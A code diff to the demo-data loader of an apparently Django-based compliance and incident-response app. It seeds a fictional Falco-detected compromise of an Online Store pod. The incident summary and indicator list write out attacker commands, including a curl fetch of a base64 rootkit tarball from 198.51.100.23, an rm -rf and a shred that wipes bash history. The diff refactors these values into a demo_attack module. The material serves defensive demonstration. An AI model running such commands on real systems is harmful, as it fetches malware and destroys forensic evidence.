@@ -29,7 +29,7 @@ from compliance.demo import compliance_demo
 from compliance.demo_risk import compliance_demo_load
 from compliance.models import ImpactLevel, InformationSystem
 from evidence.demo import evidence_demo
-from incidents import sysdig_demo
+from incidents import demo_attack, sysdig_demo
 from incidents.demo_detections import load_detections
 from incidents.models import (
     AttackVector,
@@ -66,17 +66,20 @@ PEOPLE = (
     ("outsider", Role.COMPLIANCE_OFFICER, OTHER, "Olga", "Nash", "sees none of DEMO's incidents"),
 )
 
-MAIN_SUMMARY = """\
+MAIN_SUMMARY = f"""\
 Falco flagged the store-frontend-ping-php pod (namespace store, deployment store-frontend) of \
-the Online Store. Running as www-data through the PHP ping page, the attacker started bash, \
-listed the web root (ls -la /var/www), fetched a rootkit tarball with \
-curl -s http://198.51.100.23/kit/rk.tar.gz.b64 -o /tmp/.x, decoded it (base64 -d), unpacked \
-it (tar xvfz, then gzip -d on the inner archive) and finally wiped the shell history with \
-shred -f /var/www/.bash_history.
+the Online Store. Running as www-data through a shell the PHP ping page started, the attacker \
+started bash, listed the web root (ls), fetched a rootkit tarball with \
+curl -s {demo_attack.TARBALL_URL} and decoded it on the fly (base64 -d) into \
+{demo_attack.TARBALL_PATH}, removed an earlier copy (rm -rf rk-master/), unpacked it with \
+tar xvfz (which ran gzip -d to decompress it) and finally wiped the shell history with \
+shred -f {demo_attack.HISTORY}. The eight commands ran within half a second.
 
-Falco alerts: "Delete or rename shell history" (shred on /var/www/.bash_history) and "Clear Log \
-Activities"; earlier "Terminal shell in container" and "Outbound connection to C2 server" \
-notices. A 20-second syscall capture surrounds the shred event and is attached to the case.
+Falco alerts: "Delete or rename shell history" and "Clear Log Activities" (shred on \
+{demo_attack.HISTORY}), "Remove Bulk Data from Disk" (shred); before them "Terminal shell in \
+container" (bash), "Launch Suspicious Network Tool in Container" (curl) and "Decoding Payload \
+in Container" (base64). Sysdig Secure recorded every command and, on the shell-history event, \
+took a 20-second syscall capture (5 s before, 15 s after), which is attached to the case.
 
 No evidence yet that the attacker left the pod; the store's payment flow is hosted by the \
 payment processor and the pod holds no customer records."""
@@ -279,7 +282,8 @@ class Scenario:
             title=MAIN_TITLE,
             summary=MAIN_SUMMARY,
             identified_at=identified,
-            first_detected_at=self.ago(hours=6, minutes=4),
+            # Falco's first alert: the attacker's bash (incidents/demo_attack.py).
+            first_detected_at=demo_attack.at(self.now),
             occurred_at=self.ago(hours=6, minutes=11),
             systems=[self.store.pk],
             functional_impact=FunctionalImpact.MINIMAL_CRITICAL,
@@ -296,17 +300,17 @@ class Scenario:
             indicators=[
                 {
                     "type": IndicatorType.URL,
-                    "value": "http://198.51.100.23/kit/rk.tar.gz.b64",
+                    "value": demo_attack.TARBALL_URL,
                     "note": "Rootkit tarball fetched with curl (base64-encoded).",
                 },
                 {
                     "type": IndicatorType.PROCESS,
-                    "value": "shred -f /var/www/.bash_history",
+                    "value": demo_attack.STEP["shred"].cmdline,
                     "note": 'Falco: "Delete or rename shell history".',
                 },
                 {
                     "type": IndicatorType.CONTAINER_IMAGE,
-                    "value": "registry.demo.example.gov/store/store-frontend-ping-php:1.4.2",
+                    "value": f"{demo_attack.IMAGE_REPO}:{demo_attack.IMAGE_TAG}",
                     "note": "Image of the compromised pod.",
                 },
                 {
@@ -317,8 +321,8 @@ class Scenario:
                 {"type": IndicatorType.IPV4, "value": "198.51.100.23", "note": "Tarball host."},
                 {
                     "type": IndicatorType.FILE_PATH,
-                    "value": "/tmp/.x",  # noqa: S108 (an indicator, not a file we use)
-                    "note": "Where the tarball was written before decoding.",
+                    "value": demo_attack.TARBALL_PATH,
+                    "note": "The decoded tarball, unpacked with tar xvfz.",
                 },
             ],
         )
@@ -369,9 +373,11 @@ class Scenario:
             ctx=self.ctx["isso"],
             incident=incident,
             summary=(
-                "Review of the 20-second capture: after unpacking, the kit opened an outbound "
-                "connection to 198.51.100.23:443 for 4 seconds. The pod's service account token "
-                "was readable by www-data; it is being rotated and its use audited."
+                f"Review of the 20-second capture: one bash (pid {demo_attack.BASH_PID}), "
+                "started by the ping page's shell, ran every command of the attack within 0.4 "
+                f"seconds; tar ran gzip -d itself (pid {demo_attack.STEP['gzip'].pid}). The "
+                "pod's service account token was readable by www-data; it is being rotated and "
+                "its use audited."
             ),
             recorded_at=self.ago(hours=1),
             now=self.ago(hours=1),
